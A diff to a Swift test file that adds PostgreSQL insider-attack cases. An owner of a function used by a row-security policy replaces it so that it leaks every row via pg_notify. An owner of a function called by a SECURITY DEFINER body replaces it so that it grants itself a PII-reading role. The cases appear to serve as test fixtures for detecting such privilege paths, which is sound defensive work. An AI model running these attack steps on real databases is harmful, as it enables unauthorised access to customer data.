@@ -6,7 +6,8 @@ import Testing
 /// Every road's database has `public.customers (id, email)` holding the canary in `email`,
 /// owned by `support_owner`, and a login role `mallory` who is the insider. `{canary}` in the
 /// SQL is replaced by the canary, `{writer}` in the attack by a shell command that has another
-/// role write every customer row, `{reader}` by one that keeps a query naming the canary running.
+/// role write every customer row, `{reader}` by one that keeps a query naming the canary running,
+/// `{agentReader}` by one where the login role `agent` reads the customers (row security applies).
 struct CapabilityRoad: Sendable, CustomTestStringConvertible {
     var name: String
     /// The majors on which the road exists (and the attack can be run).
@@ -191,6 +192,46 @@ struct CapabilityRoad: Sendable, CustomTestStringConvertible {
                 SELECT 'delivered';
                 """,
             capability: "trigger_function", cause: "owns trigger function public.audit() of public.customers"),
+        CapabilityRoad(
+            name: "Owning a function a row-security policy calls: replacing it receives the rows a reader is checked against",
+            setup: """
+                CREATE ROLE auditor NOLOGIN;
+                CREATE ROLE agent LOGIN;
+                GRANT auditor TO mallory;
+                GRANT CREATE ON SCHEMA public TO auditor;
+                CREATE FUNCTION public.region_ok(text) RETURNS boolean LANGUAGE plpgsql AS $b$ BEGIN RETURN true; END $b$;
+                ALTER FUNCTION public.region_ok(text) OWNER TO auditor;
+                ALTER TABLE public.customers ENABLE ROW LEVEL SECURITY;
+                CREATE POLICY by_region ON public.customers USING (public.region_ok(email));
+                GRANT SELECT ON public.customers TO agent;
+                """,
+            attack: """
+                LISTEN loot;
+                CREATE OR REPLACE FUNCTION public.region_ok(text) RETURNS boolean LANGUAGE plpgsql AS $w$ BEGIN PERFORM pg_notify('loot', $1); RETURN true; END $w$;
+                \\! {agentReader}
+                SELECT 'delivered';
+                """,
+            capability: "policy_function", cause: "owns public.region_ok(text), called by a row-security policy of public.customers"),
+        CapabilityRoad(
+            name: "Owning a function a SQL-standard SECURITY DEFINER body calls: replace it, call the definer, run as its owner",
+            setup: """
+                CREATE ROLE pii_readers NOLOGIN;
+                CREATE ROLE onboarding NOLOGIN;
+                GRANT SELECT ON public.customers TO pii_readers;
+                GRANT pii_readers TO onboarding WITH ADMIN OPTION;
+                GRANT CREATE ON SCHEMA public TO mallory;
+                CREATE FUNCTION public.helper() RETURNS int LANGUAGE plpgsql AS $b$ BEGIN RETURN 1; END $b$;
+                ALTER FUNCTION public.helper() OWNER TO mallory;
+                CREATE FUNCTION public.count_tickets() RETURNS int LANGUAGE sql SECURITY DEFINER BEGIN ATOMIC SELECT public.helper(); END;
+                ALTER FUNCTION public.count_tickets() OWNER TO onboarding;
+                """,
+            attack: """
+                CREATE OR REPLACE FUNCTION public.helper() RETURNS int LANGUAGE plpgsql AS $e$
+                BEGIN EXECUTE 'GRANT pii_readers TO mallory'; RETURN 1; END $e$;
+                SELECT public.count_tickets();
+                SET ROLE pii_readers; SELECT email FROM public.customers;
+                """,
+            capability: "replaced_callee", cause: "owns public.helper(), called by SECURITY DEFINER public.count_tickets()"),
         CapabilityRoad(
             name: "A rewrite rule returns another table's rows to a role that may only INSERT",
             setup: """
